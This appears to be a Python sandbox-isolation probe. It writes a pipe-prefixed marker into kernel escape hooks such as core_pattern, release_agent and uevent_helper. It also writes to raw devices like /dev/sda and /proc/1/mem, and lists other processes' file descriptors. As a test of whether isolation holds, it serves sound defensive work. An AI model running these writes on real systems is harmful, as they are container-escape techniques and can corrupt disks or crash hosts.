"""Turns the kernel's own knobs, and looks for other processes through /proc."""

# %% added
import os
import pathlib

turned = []
for name in (
    "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/modprobe",
    "/sys/fs/cgroup/release_agent", "/proc/1/oom_score_adj", "/proc/1/mem", "/proc/self/exe", "/proc/1/fd/0",
    "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/fuse", "/sys/kernel/uevent_helper", "/proc/self/uid_map",
):  # fmt: skip
    try:
        pathlib.Path(name).write_text("|/tmp/attack-was-here")
        turned.append(name)
    except OSError:
        pass
others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid())]
for pid in (*others, "1"):
    for name in ("cwd", "root", "exe", "fd"):
        try:
            turned += os.listdir(f"/proc/{pid}/{name}") if name == "fd" else []
        except OSError:
            pass
print("FOUND", len(turned) + len(others), turned, others)
